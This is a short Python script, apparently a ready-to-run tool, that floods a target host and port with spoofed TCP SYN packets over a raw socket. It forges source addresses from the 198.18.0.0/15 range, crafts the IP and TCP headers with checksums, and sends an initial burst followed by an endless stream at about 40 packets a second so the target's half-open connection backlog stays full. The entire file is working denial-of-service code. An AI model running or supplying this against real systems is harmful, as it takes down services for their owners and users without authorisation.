"""Sends SYNs from forged addresses, and never the third packet: half-open.py TARGET PORT

The addresses are of 198.18.0.0/15 (for benchmarks); 40 packets a second keep a small backlog full.
"""
import random, socket, struct, sys, time

target, port = sys.argv[1], int(sys.argv[2])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn():
    source = socket.inet_aton('198.18.%d.%d' % (random.randrange(256), random.randrange(1, 255)))
    to = socket.inet_aton(target)
    head = struct.pack('!HHIIBBH', random.randrange(1024, 65000), port, random.randrange(2**32), 0, 5 << 4, 2, 64240)
    pseudo = source + to + struct.pack('!BBH', 0, 6, 20)
    tcp = head + struct.pack('!HH', checksum(pseudo + head + b'\0\0\0\0'), 0)
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, source, to) + tcp


for _ in range(60):
    sender.sendto(syn(), (target, 0))
print('listening', flush=True)
while True:
    sender.sendto(syn(), (target, 0))
    time.sleep(0.025)
